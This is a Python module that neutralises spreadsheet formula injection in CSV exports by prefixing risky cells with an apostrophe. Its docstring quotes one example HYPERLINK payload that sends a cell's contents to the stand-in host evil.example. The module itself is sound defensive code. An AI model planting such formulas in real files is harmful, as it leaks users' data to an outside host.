"""CSV files that are safe to open in a spreadsheet.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice
and Google Sheets as a formula (CSV or formula injection): a goal typed as
`=HYPERLINK("http://evil.example/?"&A1, "click")` would run in the coordinator's spreadsheet.
Every cell Maatje writes is neutralised the way OWASP advises: such a cell gets a leading `'`,
which spreadsheets show as text and do not evaluate. Files are UTF-8 with a BOM, so
spreadsheets read them as UTF-8.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> str:
    """The cell's text, inert in a spreadsheet."""
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def table(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """A CSV file: the header row, then the rows, every cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([neutralise(cell) for cell in header])
    writer.writerows([neutralise(cell) for cell in row] for row in rows)
    return out.getvalue().encode("utf-8-sig")
